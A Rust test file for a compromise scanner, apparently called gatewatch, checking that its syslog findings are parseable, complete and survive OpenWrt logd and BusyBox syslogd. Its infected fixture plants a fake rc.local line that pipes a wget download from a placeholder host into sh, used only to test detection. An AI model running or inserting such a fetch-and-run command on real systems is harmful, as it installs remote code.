//! Sends lines to log sockets that a collector can parse, count and trust, and that BusyBox does not cut.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]
#![allow(clippy::arithmetic_side_effects, clippy::as_conversions, clippy::print_stderr, missing_docs)]

#[path = "common/scan.rs"]
mod scan;

use std::ffi::OsString;
use std::fs;
use std::io::Read;
use std::os::fd::AsRawFd;
use std::os::unix::net::{UnixDatagram, UnixListener};
use std::path::Path;
use std::process::Command;
use std::thread;
use std::time::{Duration, Instant};

use nix::errno::Errno;
use nix::sys::socket::{AddressFamily, Backlog, SockFlag, SockType, UnixAddr, bind, connect, listen, socket};
use scan::{GATEWATCH, Log, Outcome, Tree, finish, need_root, run, start};

/// A message taken apart.
#[derive(Debug)]
struct Line {
    priority: u8,
    /// The keys in their order.
    keys: Vec<String>,
    values: Vec<String>,
}

impl Line {
    fn parse(bytes: &[u8]) -> Self {
        assert!(bytes.iter().all(|byte| (b' '..=b'~').contains(byte)), "{}", String::from_utf8_lossy(bytes));
        let text = str::from_utf8(bytes).unwrap();
        let (priority, rest) = text.strip_prefix('<').unwrap().split_once('>').unwrap();
        let (stamp, message) = rest.split_at(16);
        let shape: String = stamp.chars().map(|c| if c.is_ascii_digit() { '0' } else { c }).collect();
        assert!(shape.ends_with(" 00 00:00:00 ") || shape.ends_with("  0 00:00:00 "), "{text}");
        assert!(message.len() <= 220, "{} bytes: {message}", message.len());
        let mut line = Self { priority: priority.parse().unwrap(), keys: Vec::new(), values: Vec::new() };
        line.message(message);
        line
    }

    /// `gatewatch[PID]: key=value key="value"`.
    fn message(&mut self, message: &str) {
        let (pid, mut rest) = message.strip_prefix("gatewatch[").unwrap().split_once("]: ").unwrap();
        assert!(pid.parse::<u32>().unwrap() > 0);
        while let Some((key, after)) = rest.split_once('=') {
            let length = match after.strip_prefix('"') {
                None => after.find(' ').unwrap_or(after.len()),
                Some(quoted) => {
                    let mut escaped = false;
                    let end = quoted.find(|c| {
                        let ends = c == '"' && !escaped;
                        escaped = c == '\\' && !escaped;
                        ends
                    });
                    end.unwrap_or_else(|| panic!("no closing quote: {message}")) + 2
                }
            };
            self.keys.push(key.into());
            self.values.push(after[..length].trim_matches('"').into());
            rest = after[length..].strip_prefix(' ').unwrap_or(&after[length..]);
        }
        assert_eq!(rest, "", "{message}");
    }

    fn value(&self, key: &str) -> &str {
        let at = self.keys.iter().position(|other| other == key).unwrap_or_else(|| panic!("{key}: {self:?}"));
        &self.values[at]
    }
}

const FINDING: [&str; 8] = ["dev", "run", "n", "check", "sev", "attack", "pid", "obj"];
const INCIDENT: [&str; 8] = ["dev", "run", "n", "incident", "sev", "findings", "pid", "story"];
const LAST: [&str; 8] = ["dev", "run", "n", "verdict", "intel", "checks", "blind", "us"];

/// The messages of one run, each with the keys that it must have and numbered without a gap.
fn messages(lines: &[Vec<u8>]) -> Vec<Line> {
    let parsed: Vec<Line> = lines.iter().map(|line| Line::parse(line)).collect();
    let (last, findings) = parsed.split_last().expect("a line after every run");
    for (number, line) in (1..).zip(&parsed) {
        assert_eq!(line.value("n"), format!("{number}/{}", parsed.len()));
        assert_eq!((line.value("dev"), line.value("run")), (last.value("dev"), last.value("run")));
    }
    assert!(last.value("run").len() == 8 && last.value("run").bytes().all(|b| b.is_ascii_hexdigit()));
    for line in findings {
        let has = |key: &str| line.keys.iter().any(|k| k == key);
        let keys = if has("incident") { INCIDENT } else { FINDING };
        let expected = keys.into_iter().filter(|key| *key != "pid" || has("pid"));
        assert_eq!(line.keys, expected.collect::<Vec<_>>());
        let level = match line.value("sev") {
            "infected" => 2,
            "suspicious" => 4,
            "notice" => 5,
            other => panic!("{other}"),
        };
        assert_eq!(line.priority, 3 * 8 + level, "facility daemon, {line:?}");
    }
    assert_eq!(last.keys[..LAST.len()], LAST);
    assert_eq!(last.priority, 3 * 8 + if last.value("verdict") == "incomplete" { 3 } else { 6 });
    parsed
}

fn command(tree: &Tree, options: &[OsString]) -> Command {
    let mut command = Command::new(GATEWATCH);
    command.args(["-v", "--format", "json", "--root"]).arg(tree.path()).args(options);
    command
}

/// How many checks there are.
fn all() -> String {
    gatewatch::checks::ALL.len().to_string()
}

/// Looks at a tree and takes what is sent to a log socket.
fn logged(tree: &Tree, options: &[&str]) -> (Outcome, Vec<Line>) {
    let log = Log::new();
    let mut all: Vec<OsString> = options.iter().map(OsString::from).collect();
    all.push(log.option());
    let outcome = Outcome::of(run(&mut command(tree, &all)));
    (outcome, messages(&log.lines()))
}

/// A recording with a finding of every severity.
fn infected() -> Tree {
    Tree::new()
        .file("about.toml", "byte_order = \"little\"\n")
        .file("root/etc/rc.local", "/tmp/x &\nwget -O- http://192.0.2.1/x | sh\n")
        .process_in("root/", 9, b"x", b"/tmp/x (deleted)", b"x\0")
        .file("root/proc/net/udp", "  sl  local_address rem_address   st\n")
        .file(
            "root/proc/net/tcp",
            "  sl  local_address rem_address   st\n0: 00000000:0050 00000000:0000 0A 0:0 0:0 0 0 0 77\n\
             1: 010200C0:0050 086433C6:9C40 01 0:0 0:0 0 0 0 78\n",
        )
}

#[test]
fn every_finding_has_its_line_and_every_run_its_last() {
    let intel = scan::intel("live.gwi");
    let (outcome, lines) =
        logged(&infected(), &["--device", "r1.lan", "--intel", intel.to_str().unwrap(), "--allow-unsigned"]);
    // Incidents stand behind the findings and before the last word.
    let told = &lines[lines.len() - 2];
    let incident = ["incident", "sev", "findings", "pid"].map(|key| told.value(key));
    assert_eq!(incident, ["1", "infected", "3", "9"]);
    assert!(told.value("story").starts_with("pid 9 (/tmp/x, deleted"), "{told:?}");
    let short: Vec<_> =
        lines[..4].iter().map(|l| ["check", "sev", "attack", "obj"].map(|key| l.value(key))).collect();
    assert_eq!(
        short,
        [
            ["exe-deleted", "infected", "T1070.004", "/tmp/x"],
            ["c2-address", "notice", "T1071", "198.51.100.8:40000 mirai"],
            ["startup-volatile", "suspicious", "T1037.004", "/etc/rc.local:1 runs /tmp/x in: /tmp/x &"],
            [
                "startup-dropper",
                "infected",
                "T1105",
                "/etc/rc.local:2 a shell runs what is fetched in: wget -O- http://192.0.2.1/x | sh"
            ],
        ]
    );
    assert_eq!((lines[0].value("pid"), outcome.status), ("9", 2));
    let last = ["dev", "n", "verdict", "intel", "checks", "blind"].map(|key| lines[5].value(key));
    assert_eq!(last, ["r1.lan", "6/6", "infected", "7", &all(), "0"]);
}

#[test]
fn a_run_that_finds_nothing_says_so() {
    let (outcome, lines) = logged(&Tree::healthy(), &[]);
    let last = ["dev", "n", "verdict", "intel", "checks", "blind"].map(|key| lines[0].value(key));
    assert_eq!((last, outcome.status), (["-", "1/1", "clean", "none", &all(), "0"], 0));
    let (outcome, lines) = logged(&Tree::healthy().fifo("etc/rc"), &["--only", "startup-dropper"]);
    let last = ["n", "verdict", "checks", "blind"].map(|key| lines[0].value(key));
    assert_eq!((last, lines[0].priority, outcome.status), (["1/1", "incomplete", "1", "1"], 27, 3));
}

#[test]
fn a_flood_is_cut_and_counted() {
    let tree = (0..100).fold(Tree::new(), |tree, i| tree.file(format!("etc/init.d/{i}"), "/tmp/x &\n"));
    let (outcome, lines) = logged(&tree.process(9, b"x", b"/tmp/x", b"x\0"), &[]);
    assert_eq!((outcome.findings.len(), lines.len()), (101, outcome.incidents.len() + 24 + 1 + 1));
    assert_eq!(lines.last().unwrap().value("more"), "76");
}

#[test]
fn a_long_name_gives_way_in_its_middle() {
    let hostile: Vec<u8> = b"\x1b[2J\n\"\\\xff]: <26>".iter().copied().cycle().take(4000).collect();
    let exe = [b"/tmp/first-", &hostile[..], b"-last (deleted)"].concat();
    let device = "d".repeat(64);
    let (outcome, lines) =
        logged(&Tree::healthy().process(4_194_304, b"x", &exe, b"x\0"), &["--device", &device]);
    assert_eq!((outcome.status, lines.len()), (2, 3));
    let cut = lines[0].value("obj");
    assert!(cut.starts_with("/tmp/first-\\x1b[2J") && cut.ends_with("-last"), "{cut}");
    assert_eq!(cut.matches("...").count(), 1, "{cut}");
    let head = ["dev", "check", "sev", "attack", "pid"].map(|key| lines[0].value(key));
    assert_eq!(head, [&device, "exe-deleted", "infected", "T1070.004", "4194304"]);
}

/// What OpenWrt's logd keeps of a datagram (ubox log/syslog.c): 1023 bytes, without a timestamp whose 16th byte is a blank;
/// newlines become blanks, and what local7 says is not kept.
fn as_logd(datagram: &[u8]) -> Option<(u32, String)> {
    let datagram = &datagram[..datagram.len().min(1023)];
    let text = String::from_utf8_lossy(datagram).replace('\n', " ");
    let (priority, text) = text.strip_prefix('<')?.split_once('>')?;
    let priority: u32 = priority.parse().ok()?;
    let text = if text.as_bytes().get(15) == Some(&b' ') { &text[16..] } else { text };
    (priority >> 3 != 23).then(|| (priority, text.to_owned()))
}

#[test]
fn logd_keeps_every_line_whole() {
    let log = Log::new();
    let name = b"\n<13>x\"\xff".repeat(400);
    let tree = infected().process_in("root/", 10, b"y", &[b"/tmp/", &name[..]].concat(), b"y\0");
    assert_eq!(run(&mut command(&tree, &[log.option()])).status, 2);
    let lines = log.lines();
    for (number, line) in (1..).zip(&lines) {
        let (priority, kept) = as_logd(line).expect("it is kept");
        assert!(kept.starts_with("gatewatch[") && line.ends_with(kept.as_bytes()), "{kept}");
        assert!(kept.contains(&format!(" n={number}/{} ", lines.len())), "{kept}");
        assert_eq!(priority >> 3, 3);
    }
    assert!(lines.len() > 4);
}

#[test]
fn a_stream_is_taken_too() {
    let place = Tree::new();
    let path = place.path().join("log");
    let listener = UnixListener::bind(&path).unwrap();
    let reader = thread::spawn(move || {
        let mut bytes = Vec::new();
        listener.accept().unwrap().0.read_to_end(&mut bytes).unwrap();
        bytes
    });
    let ran = run(&mut command(&infected(), &[option(&path)]));
    let bytes = reader.join().unwrap();
    let lines: Vec<Vec<u8>> =
        bytes.strip_suffix(b"\0").unwrap().split(|b| *b == 0).map(<[u8]>::to_vec).collect();
    assert_eq!((messages(&lines).len(), ran.status), (5, 2));
}

fn option(path: &Path) -> OsString {
    let mut option = OsString::from("--syslog=");
    option.push(path);
    option
}

/// What was not logged was not done, but what was found counts more.
#[track_caller]
fn fails(path: &Path, message: &str) {
    let begun = Instant::now();
    let trees = [(Tree::healthy(), 3), (infected(), 2)];
    let running = trees.map(|(tree, status)| (start(&mut command(&tree, &[option(path)])), status, tree));
    for (running, status, _tree) in running {
        let ran = finish(running);
        assert_eq!(ran.status, status, "{ran:?}");
        let expected = format!("{}: {message}; messages that have not arrived there: ", path.display());
        assert!(ran.stderr.lines().any(|line| line.contains(&expected)), "{expected}: {ran:?}");
        Outcome::of(ran);
    }
    assert!(begun.elapsed() < Duration::from_secs(10), "{:?}", begun.elapsed());
}

#[test]
fn a_log_socket_that_is_none() {
    let place = Tree::new().file("file", "").link("loop", "loop");
    drop(UnixDatagram::bind(place.path().join("left")).unwrap());
    let long = "x".repeat(200);
    thread::scope(|scope| {
        for (name, why) in [
            ("missing", "not found"),
            ("file", "nobody listens there"),
            ("loop", "links lead in a circle"),
            ("left", "nobody listens there"),
            (&long, "path too long"),
        ] {
            let path = place.path().join(name);
            scope.spawn(move || fails(&path, why));
        }
    });
}

#[test]
fn a_log_daemon_that_does_not_read() {
    let place = Tree::new();
    let path = place.path().join("log");
    let _socket = UnixDatagram::bind(&path).unwrap();
    let other = UnixDatagram::unbound().unwrap();
    other.set_nonblocking(true).unwrap();
    while other.send_to(b"x", &path).is_ok() {}
    fails(&path, "does not answer in time");

    let path = place.path().join("stream");
    let open = || socket(AddressFamily::Unix, SockType::Stream, SockFlag::SOCK_NONBLOCK, None).unwrap();
    let (listener, name) = (open(), UnixAddr::new(&path).unwrap());
    bind(listener.as_raw_fd(), &name).unwrap();
    listen(&listener, Backlog::new(1).unwrap()).unwrap();
    let mut waiting = vec![open()];
    while connect(waiting.last().unwrap().as_raw_fd(), &name) != Err(Errno::EAGAIN) {
        waiting.push(open());
    }
    fails(&path, "does not answer in time");
}

#[test]
fn a_log_daemon_that_restarts_is_waited_for() {
    let place = Tree::new();
    let path = place.path().join("log");
    let tree = infected();
    let running = start(&mut command(&tree, &[option(&path)]));
    thread::sleep(Duration::from_millis(300));
    let socket = UnixDatagram::bind(&path).unwrap();
    let ran = finish(running);
    assert_eq!((ran.status, &ran.stderr[..]), (2, ""));
    socket.set_nonblocking(true).unwrap();
    let (mut lines, mut buffer) = (Vec::new(), [0; 1024]);
    while let Ok(length) = socket.recv(&mut buffer) {
        lines.push(buffer[..length].to_vec());
    }
    assert_eq!(messages(&lines).len(), 5);
}

#[test]
fn busybox_takes_every_line_whole() {
    need_root();
    let long = [&b"/tmp/"[..], &b"daemon-".repeat(150)].concat();
    let tree = infected().process_in("root/", 4_194_304, b"y", &long, b"y\0").dir("log");
    // A /dev of its own: the machine's log daemon keeps its socket. Everything ends with the first process.
    let script = r#"mount -t tmpfs none /dev && mknod -m 666 /dev/null c 1 3 || exit 9
        busybox syslogd -n -O "$1/log/messages" &
        tries=200
        until [ -S /dev/log ] || [ $((tries -= 1)) = 0 ]; do busybox usleep 20000; done
        "$0" --root "$1" --device "$2" --syslog -q; status=$?
        until grep -q verdict= "$1/log/messages" || [ $((tries -= 1)) = 0 ]; do busybox usleep 20000; done
        exit $status"#;
    let mut command = Command::new("unshare");
    command.args(["-m", "-p", "-f", "--kill-child", "sh", "-c", script, GATEWATCH]);
    let ran = run(command.arg(tree.path()).arg("d".repeat(64)));
    assert_eq!(ran.status, 2, "{ran:?}");
    let log = fs::read_to_string(tree.path().join("log/messages")).unwrap();
    let lines: Vec<_> =
        log.lines().filter_map(|line| line.find("gatewatch[").map(|at| line.split_at(at))).collect();
    assert_eq!(lines.len(), 6, "{log}");
    for (number, (head, message)) in (1..).zip(&lines) {
        let mut line = Line { priority: 0, keys: Vec::new(), values: Vec::new() };
        line.message(message);
        assert_eq!(line.value("n"), format!("{number}/6"));
        assert!(head.contains(if number == 6 { " daemon.info " } else { " daemon." }), "{head}");
        assert!(line.keys.iter().any(|key| ["us", "obj", "story"].contains(&key.as_str())), "{message}");
    }
}
